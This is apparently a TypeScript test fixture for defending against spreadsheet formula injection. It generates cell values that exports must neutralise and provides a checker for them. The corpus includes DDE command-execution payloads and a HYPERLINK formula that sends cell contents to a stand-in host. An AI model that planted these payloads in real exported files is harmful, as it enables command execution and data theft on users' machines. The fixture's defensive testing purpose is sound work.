/** Begins of cells that spreadsheets have been made to run, see CWE-1236. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '⩵'];
const BEFORE = [
  '',
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' \t ',
  '\u0000',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u00ad',
];
const AFTER = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.com/?x="&A1,"Ver")',
  'WEBSERVICE("https://example.com")',
  'IMPORTXML(A1,"//a")',
  'DDE("cmd";"/C calc")',
  '2+3;=4',
  '"",=1',
  "'x",
  '=',
  'A1\r\n=B1',
];

/** Texts that no export may let a spreadsheet run: every sign after everything that may stand before it. */
export const FORMULA_CORPUS: readonly string[] = [
  ...SIGNS.flatMap((sign) => BEFORE.flatMap((before) => AFTER.map((after) => before + sign + after))),
  ...SIGNS.filter((sign) => sign !== '-'),
  '\tx',
  '\rx',
  '\t5',
];

/** Texts that an export leaves as they are. */
export const HARMLESS: readonly string[] = [
  '-1.234,56',
  '+5',
  '-12,5 %',
  ' -3 ',
  '-',
  'Soja',
  '',
  '1-2',
  'a=b',
  '5',
  "'=1",
  'ñ@x',
];

/**
 * Whether a spreadsheet might run a cell. Written apart from the rule that the exports have: by what Unicode says that a
 * sign is the same as, and not by a list of signs.
 */
export function mayRun(cell: string): boolean {
  if (/^[\t\r]/.test(cell)) return true;
  const seen = cell.replace(/^[\p{Z}\p{C}]+/u, '').normalize('NFKC');
  return /^[=+\-@]/.test(seen) && !/^[+-]?\d[\d.,]* ?%? *$/.test(seen) && cell.trim() !== '-';
}
